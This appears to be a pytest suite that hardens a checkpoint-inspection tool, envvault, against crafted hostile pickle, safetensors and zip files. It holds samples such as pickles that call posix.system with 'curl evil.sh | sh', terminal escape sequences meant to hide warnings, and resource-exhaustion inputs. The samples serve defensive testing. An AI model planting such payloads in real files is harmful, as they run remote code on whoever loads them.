"""Hostile checkpoints against `inspect` (and `diff`/`restore`, which read the stamp) (issue 14, item 5).

Each file is a few bytes or kilobytes (or a sparse file) crafted from the formats alone. Each run is a real
`envvault inspect` under an address-space limit and a timeout; each asserts the documented exit code, one
line on stderr when it fails, a bounded time and a peak resident memory under 100 MB.
"""

from __future__ import annotations

import json
import struct

import pytest

from tests.attacks.ckptcraft import (
    LEGACY_HEADER,
    P2,
    Run,
    bare_pickle,
    binint,
    dcp_folder,
    mkfifo,
    rebuild_tensor,
    run_limited,
    safetensors,
    shared_list,
    sparse_safetensors,
    torch_blob,
    torch_zip,
    unicode,
)

MAX_SECONDS = 10  # each case takes well under a second on a quiet machine; unbounded ones ran minutes
MAX_MB = 100


def _bounded(run: Run) -> None:
    assert run.seconds < MAX_SECONDS, run.seconds
    assert run.peak_mb < MAX_MB, run.peak_mb
    assert len(run.stdout) < 20 << 20, len(run.stdout)


def _refused(run: Run, code: int, *needles: str) -> None:
    _bounded(run)
    assert run.returncode == code, (run.returncode, run.stderr[-2000:])
    assert len(run.err_lines) == 1 and "Traceback" not in run.stderr, run.stderr[-2000:]
    assert run.err_lines[0].startswith("envvault: error: "), run.stderr
    for n in needles:
        assert n in run.stderr, (n, run.stderr)


def _inspect(tmp_path, path, *extra: str) -> Run:
    return run_limited(tmp_path / "vault", "inspect", str(path), *extra, cwd=tmp_path)


def test_deep_tuple_as_dict_key_is_refused(tmp_path):
    # {((((1,),),)...): 1} 300,000 deep: hashing the key recursed in C until the process segfaulted.
    pkl = P2 + b"}" + b"K\x01" + b"\x85" * 300_000 + b"K\x01s."
    ckpt = torch_zip(tmp_path / "deep.pt", pkl)
    _refused(_inspect(tmp_path, ckpt), 2, "nests tuples more than 100 deep")


def test_deep_frozenset_is_refused(tmp_path):
    # The same through protocol 4's FROZENSET opcode: frozenset({frozenset({...})}).
    body = b"K\x01"
    for _ in range(5000):
        body = b"(" + body + b"\x91"  # MARK <item> FROZENSET
    ckpt = bare_pickle(tmp_path / "sets.pkl", b"\x80\x04" + body + b".")
    _refused(_inspect(tmp_path, ckpt), 2, "nests tuples more than 100 deep")


def test_deep_list_is_bounded(tmp_path):
    # [[[[...]]]] 300,000 deep (lists are not hashed): read, rendered to depth 100, never recursed.
    pkl = P2 + b"]" * 300_000 + b"a" * 299_999 + b"."
    run = _inspect(tmp_path, bare_pickle(tmp_path / "lists.pkl", pkl), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    assert "…" in json.dumps(json.loads(run.stdout)["content"], ensure_ascii=False)


def test_huge_integer_in_a_pickle_is_refused(tmp_path):
    digits = str(10**4000).encode()
    pkl = P2 + b"}" + unicode("envvault") + b"L" + digits + b"L\ns."  # text LONG, 4001 digits
    _refused(_inspect(tmp_path, torch_zip(tmp_path / "bigint.pt", pkl)), 2, "integer of more than 4096 bits")
    long4 = (1 << 20_000).to_bytes(2501, "little", signed=True)
    pkl = P2 + b"}" + unicode("n") + b"\x8b" + struct.pack("<i", len(long4)) + long4 + b"s."
    _refused(_inspect(tmp_path, torch_zip(tmp_path / "bigint4.pt", pkl)), 2, "integer of more than 4096 bits")


def test_tensor_shape_of_huge_dimensions_is_not_multiplied(tmp_path):
    # 3,000 dimensions of 2**4000 (each under the integer limit): counting elements was minutes of
    # multiplication. Not a shape: the rebuild call is recorded, never made, and nothing is multiplied.
    dims = b"\x8b" + struct.pack("<i", 501) + (1 << 4000).to_bytes(501, "little", signed=True)
    shape = b"(" + dims + b"q\x03" + b"h\x03" * 2999 + b"t"
    run = _inspect(tmp_path, torch_zip(tmp_path / "shape.pt", rebuild_tensor(shape)), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    doc = json.loads(run.stdout)
    assert doc["tensors"]["count"] == 0
    assert any("_rebuild_tensor_v2" in f for f in doc["findings"]), doc["findings"]


def test_safetensors_shape_of_huge_integers_is_refused(tmp_path):
    header = b'{"w":{"dtype":"F32","shape":[' + b",".join([str(10**4000).encode()] * 3000) + \
        b'],"data_offsets":[0,4]}}'
    _refused(_inspect(tmp_path, safetensors(tmp_path / "shape.safetensors", header, b"\0" * 4)), 5,
             "integer of 4001 digits")


def test_safetensors_header_nested_deeply_is_refused(tmp_path):
    header = b'{"__metadata__":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    _refused(_inspect(tmp_path, safetensors(tmp_path / "deep.safetensors", header)), 5, "nests deeper than")


def test_safetensors_header_over_the_limit_is_refused(tmp_path):
    # 100 MB header (sparse): read in full it took 1.8 GB and 23 s; refused before reading.
    ckpt = sparse_safetensors(tmp_path / "huge.safetensors", 100_000_000)
    _refused(_inspect(tmp_path, ckpt), 2, "over envvault's 16 MiB limit")


def test_hostile_stamp_is_ignored_with_a_note(tmp_path):
    # A stamp (safetensors __metadata__ "envvault") holding a 5,000-digit integer, then one nested 50,000
    # deep: the file reads, the stamp is ignored, a note says why.
    for name, stamp in (("int", '{"snapshot": ' + "9" * 5000 + "}"), ("deep", "[" * 50_000 + "]" * 50_000)):
        ckpt = safetensors(tmp_path / f"{name}.safetensors",
                           {"__metadata__": {"format": "pt", "envvault": stamp},
                            "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4)
        run = _inspect(tmp_path, ckpt, "--json")
        _bounded(run)
        assert run.returncode == 0, run.stderr
        doc = json.loads(run.stdout)
        assert doc["stamp"] is None
        assert any("stamp ignored" in n for n in doc["notes"]), doc["notes"]


def test_many_small_values_are_refused_before_memory_runs_out(tmp_path):
    # ( + 32 MiB of None + l. : took 5 GB and printed 335 MB.
    pkl = P2 + b"(" + b"N" * (32 << 20) + b"l."
    _refused(_inspect(tmp_path, bare_pickle(tmp_path / "nones.pkl", pkl)), 2, "opcodes")


def test_shared_references_do_not_multiply_the_output(tmp_path):
    # L0 = ["x" * 1000]; L(i+1) = [Li, Li]: 2**60 leaves by reference, printed until the budget ends.
    pkl = P2 + b"]" + unicode("x" * 1000) + b"a" + b"q\x00"
    for i in range(1, 61):
        pkl += b"](h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"eq" + bytes([i])
    pkl += b"."
    run = _inspect(tmp_path, bare_pickle(tmp_path / "dag.pkl", pkl))
    _bounded(run)
    assert run.returncode == 0, run.stderr
    assert len(run.stdout) < 12 << 20


def test_many_blocked_calls_are_listed_once_each_up_to_a_limit(tmp_path):
    pkl = P2 + b"]" + b"cposix\nsystem\nq\x000" + b"(" + b"".join(
        b"h\x00" + unicode("true") + b"\x85R" for _ in range(50_000)) + b"e."
    run = _inspect(tmp_path, bare_pickle(tmp_path / "calls.pkl", pkl), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    doc = json.loads(run.stdout)
    assert len(doc["findings"]) == 100
    assert any("49900 more findings" in n for n in doc["notes"]), doc["notes"]


def test_huge_memo_index_costs_nothing(tmp_path):
    # LONG_BINPUT 4,294,967,280: the C unpickler sized its memo by it.
    pkl = P2 + b"N" + b"r\xf0\xff\xff\xff" + b"0" + b"j\xf0\xff\xff\xff" + b"."
    run = _inspect(tmp_path, bare_pickle(tmp_path / "memo.pkl", pkl))
    _bounded(run)
    assert run.returncode == 0, run.stderr


def test_fifo_is_refused_without_blocking(tmp_path):
    fifo = mkfifo(tmp_path / "x.pt")
    _refused(_inspect(tmp_path, fifo), 2, "not a regular file")


def test_fifo_sidecar_in_a_checkpoint_folder_does_not_block(tmp_path):
    folder = tmp_path / "ckpt"
    folder.mkdir()
    mkfifo(folder / "envvault.json")
    mkfifo(folder / "config.json")
    safetensors(folder / "model.safetensors", {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
                b"\0" * 4)
    run = _inspect(tmp_path, folder, "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    assert any("not a regular file" in n for n in json.loads(run.stdout)["notes"])


@pytest.mark.parametrize("command", ["diff", "restore"])
def test_diff_and_restore_read_a_hostile_checkpoint_safely(tmp_path, command):
    pkl = P2 + b"}" + b"K\x01" + b"\x85" * 300_000 + b"K\x01s."
    ckpt = torch_zip(tmp_path / "deep.pt", pkl)
    from envvault.vault.store import Vault

    Vault.open(tmp_path / "vault", create=True)  # an empty vault: the checkpoint is read before any lookup
    args = [command, str(ckpt), "latest"] if command == "diff" else [command, str(ckpt), "--dry-run"]
    run = run_limited(tmp_path / "vault", *args, cwd=tmp_path)
    _refused(run, 2, "nests tuples more than 100 deep")
    assert "deep.pt" in run.stderr


def test_hostile_stamp_in_a_pickle_is_read_within_limits(tmp_path):
    # The stamp key of a dict checkpoint holding a list 200,000 long: rendered up to the budget.
    pkl = P2 + b"}" + unicode("envvault") + b"}" + unicode("argv") + b"(" + b"N" * 200_000 + b"ls."
    run = _inspect(tmp_path, torch_zip(tmp_path / "stamp.pt", pkl))
    _bounded(run)
    assert run.returncode == 0, run.stderr


def test_many_colliding_dict_keys_render_in_linear_time(tmp_path):
    # 16,000 distinct 2-byte bytes keys all render as {"bytes": 2}: `while key in out: key += "#"` made
    # that cubic (8,000 keys: 24 s; 65,536: hours). Each duplicate now gets the next free "#n".
    n = 16_000
    pkl = P2 + b"}(" + b"".join(b"C\x02" + struct.pack("<H", i) + b"N" for i in range(n)) + b"u."
    run = _inspect(tmp_path, torch_zip(tmp_path / "keys.pt", pkl), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    content = json.loads(run.stdout)["content"]
    assert len(content) == n, len(content)
    assert '{"bytes": 2}#2' in content and f'{{"bytes": 2}}#{n}' in content


def test_storage_key_that_is_not_text_is_never_stringified(tmp_path):
    # A storage persistent id whose key is a list of 1,000 references to a list of 1,000 references to a
    # 64 KiB string: str() of it is 64 GB (a 1 MiB string: a terabyte).
    pid = (b"(" + unicode("storage") + b"ctorch\nFloatStorage\n" + shared_list(64 << 10) + unicode("cpu")
           + binint(1) + b"tQ")
    run = _inspect(tmp_path, torch_zip(tmp_path / "pid.pt", P2 + pid + b"."), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr


@pytest.mark.parametrize("header", ["shared", "deep"])
def test_legacy_header_that_is_not_a_number_is_refused_in_one_line(tmp_path, header):
    # The protocol version after the legacy magic: repr() of a shared list was a terabyte; of a list
    # 200,000 deep, a RecursionError (exit 70).
    body = shared_list(64 << 10) if header == "shared" else b"]" * 200_000 + b"a" * 199_999
    ckpt = bare_pickle(tmp_path / "legacy.pt", LEGACY_HEADER + P2 + body + b".")
    _refused(_inspect(tmp_path, ckpt), 5, "unknown protocol version (a list, not a number)")


@pytest.mark.parametrize("arg", ["shared", "deep"])
def test_blocked_call_arguments_are_shown_bounded_whatever_their_type(tmp_path, arg):
    # posix.system(OrderedDict(a=<value>)): reprlib handed the OrderedDict to builtins.repr, whole.
    value = shared_list(64 << 10) if arg == "shared" else b"]" * 200_000 + b"a" * 199_999
    od = b"ccollections\nOrderedDict\n)R" + unicode("a") + value + b"s"
    pkl = P2 + b"cposix\nsystem\n" + od + b"\x85R."
    run = _inspect(tmp_path, torch_zip(tmp_path / "call.pt", pkl), "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    (finding,) = json.loads(run.stdout)["findings"]
    assert finding.startswith("pickle tries to call posix.system (os.system)(OrderedDict({'a': [["), finding
    assert len(finding) < 1000, len(finding)


def _long1(n: int) -> bytes:
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw  # LONG1


def _big_blob(size: int = 1_000_000) -> bytes:
    return torch_blob(P2 + b"X" + struct.pack("<I", size) + b"a" * size + b".")


def test_dcp_entries_pointing_at_one_blob_share_one_budget(tmp_path):
    # 2,000 byte entries of a 200 KB .metadata all pointing at one 1 MiB blob: each was read, unpickled and
    # rendered on its own (200 entries: 600 MB). Read once now; its content repeated within one budget.
    blob = _big_blob()
    folder = dcp_folder(tmp_path / "many", blob, [("__0_0.distcp", binint(0), len(blob))] * 2000)
    run = _inspect(tmp_path, folder, "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    content = json.loads(run.stdout)["content"]
    assert content["k0"] == "a" * 1_000_000 and content["k1999"] == {"bytes": len(blob)}


def test_dcp_entries_at_many_offsets_share_one_budget(tmp_path):
    # 40 distinct 512 KB blobs: read until the folder's byte budget is spent, the rest noted.
    blob = _big_blob(500_000)
    folder = dcp_folder(tmp_path / "offsets", blob * 40,
                        [("__0_0.distcp", binint(i * len(blob)), len(blob)) for i in range(40)])
    run = _inspect(tmp_path, folder, "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    doc = json.loads(run.stdout)
    assert doc["content"]["k0"] == "a" * 500_000 and doc["content"]["k39"] == {"bytes": len(blob)}
    assert any("over envvault's 8 MiB limit" in n for n in doc["notes"]), doc["notes"]


def _patched_blob(kind: str) -> bytes:
    raw = bytearray(torch_blob(P2 + b"N."))
    cd = raw.find(b"PK\x01\x02")
    if kind == "method-99":  # compression method 99 (AES): zipfile raises NotImplementedError
        raw[8:10] = raw[cd + 10 : cd + 12] = struct.pack("<H", 99)
    else:  # the encrypted flag: zipfile raises RuntimeError
        raw[6] |= 1
        raw[cd + 8] |= 1
    return bytes(raw)


@pytest.mark.parametrize("case", ["nul-in-path", "offset-2**70", "method-99", "encrypted"])
def test_hostile_dcp_byte_entry_is_a_note_not_a_crash(tmp_path, case):
    # Each ended in exit 70 with a traceback (ValueError, OverflowError, NotImplementedError, RuntimeError).
    blob = _patched_blob(case) if case in ("method-99", "encrypted") else torch_blob(P2 + b"N.")
    rel = "a\0b" if case == "nul-in-path" else "__0_0.distcp"
    offset = _long1(2**70) if case == "offset-2**70" else binint(0)
    folder = dcp_folder(tmp_path / "dcp", blob, [(rel, offset, len(blob))])
    run = _inspect(tmp_path, folder, "--json")
    _bounded(run)
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout)["content"]["k0"] == {"bytes": len(blob)}


@pytest.mark.parametrize("offset", [2**64 - 1, 2**63 + 5])
def test_zip64_locator_pointing_past_the_file_is_refused_in_one_line(tmp_path, offset):
    # The zip64 end locator's offset was passed to seek() outside the try: ValueError/OverflowError, exit 70.
    loc = b"PK\x06\x07" + struct.pack("<LQL", 0, offset, 1)
    eocd = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 0, 0, 0, 0, 0)
    ckpt = bare_pickle(tmp_path / "zip64.pt", b"PK\x03\x04" + b"\0" * 100 + loc + eocd)
    _refused(_inspect(tmp_path, ckpt), 5, "zip64.pt")


def test_escape_sequences_from_a_checkpoint_are_shown_escaped(tmp_path):
    # A global named "x\x1b[1A\x1b[2K\r..." moved the cursor up and erased the danger line above it; C1
    # controls (\x9b is CSI) and bidi overrides in content and notes passed json.dumps(ensure_ascii=False).
    esc = "x\x1b[1A\x1b[2K\r  unknown: pickle refers to a harmless helper"
    pkl = (P2 + b"}(" + unicode("a") + b"cposix\nsystem\n" + unicode("curl evil.sh | sh") + b"\x85R"
           + unicode("b") + b"c" + esc.encode() + b"\ny\n)R" + unicode("k\x9b2J\u202e\u2028") + b"N" + b"u.")
    run = _inspect(tmp_path, torch_zip(tmp_path / "esc.pt", pkl))
    _bounded(run)
    assert run.returncode == 0, run.stderr
    for bad in ("\x1b", "\r", "\x9b", "\u202e", "\u2028"):
        assert bad not in run.stdout, (bad, run.stdout)
    assert "x\\x1b[1A\\x1b[2K\\r" in run.stdout, run.stdout
    assert "danger: pickle tries to call posix.system (os.system)('curl evil.sh | sh')" in run.stdout
